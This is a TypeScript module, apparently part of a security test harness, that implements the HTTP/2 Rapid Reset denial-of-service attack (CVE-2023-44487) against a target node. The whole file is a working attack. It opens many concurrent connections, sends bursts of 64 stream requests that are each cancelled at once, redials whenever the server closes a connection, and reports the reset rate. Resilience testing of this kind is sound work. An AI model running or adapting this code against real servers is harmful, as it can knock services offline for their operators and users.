// HTTP/2 rapid reset (CVE-2023-44487) on the guest port: over `connections` connections at
// once, open a stream and cancel it at once (RST_STREAM CANCEL), as fast as the connection
// takes them, for `durationMs`; a connection the node ends (GOAWAY, close) is dialled again.
// Bounded by time; each connection yields to the event loop every burst.
import http2 from "node:http2";
import { connectH2, GRPC_HEADERS } from "./h2-connect.js";
import { type AttackerTls, type AttackOutcome, Tally } from "./outcome.js";

export interface RapidResetSpec {
  readonly target: string;
  readonly connections: number;
  readonly durationMs: number;
  readonly tls?: AttackerTls;
}

const BURST = 64;

/** One connection's life: resets until the node ends it or time is up. */
function oneConnection(spec: RapidResetSpec, until: number, sent: Tally, answers: Tally) {
  return new Promise<void>((resolve) => {
    const session = connectH2(spec.target, spec.tls);
    sent.add("connections");
    let done = false;
    const finish = (why?: string) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      if (why) answers.add(why);
      session.destroy();
      resolve();
    };
    const timer = setTimeout(() => finish(), Math.max(0, until - performance.now()));
    session.on("goaway", (code: number) => finish(`goaway:${http2Name(code)}`));
    session.on("error", (e: NodeJS.ErrnoException) => finish(`error:${e.code ?? e.message}`));
    session.on("close", () => finish("closed by the node"));
    const burst = () => {
      if (done || session.destroyed || session.closed) return;
      for (let i = 0; i < BURST; i++) {
        try {
          const stream = session.request(GRPC_HEADERS, { endStream: false });
          stream.on("error", () => undefined);
          stream.close(http2.constants.NGHTTP2_CANCEL);
          sent.add("streams reset");
        } catch (e) {
          finish(`request failed:${(e as NodeJS.ErrnoException).code ?? "?"}`);
          return;
        }
      }
      setImmediate(burst);
    };
    session.on("connect", burst);
  });
}

function http2Name(code: number): string {
  const entry = Object.entries(http2.constants).find(
    ([k, v]) => k.startsWith("NGHTTP2_") && v === code && !k.startsWith("NGHTTP2_SESSION"),
  );
  return entry ? entry[0].replace(/^NGHTTP2_/, "") : String(code);
}

export async function rapidReset(spec: RapidResetSpec): Promise<AttackOutcome> {
  const until = performance.now() + spec.durationMs;
  const sent = new Tally();
  const answers = new Tally();
  const worker = async () => {
    while (performance.now() < until) {
      await oneConnection(spec, until, sent, answers);
      // A node that closes the connection at once must not turn this into a busy loop.
      if (performance.now() < until) await new Promise((r) => setTimeout(r, 5));
    }
  };
  await Promise.all(Array.from({ length: spec.connections }, worker));
  const rate = (sent.get("streams reset") * 1000) / spec.durationMs;
  return {
    sent: sent.counts,
    answers: answers.counts,
    note: `${spec.connections} connections for ${spec.durationMs / 1000} s: ${rate.toFixed(0)} streams/s reset, ${sent.get("connections")} connections dialled`,
  };
}
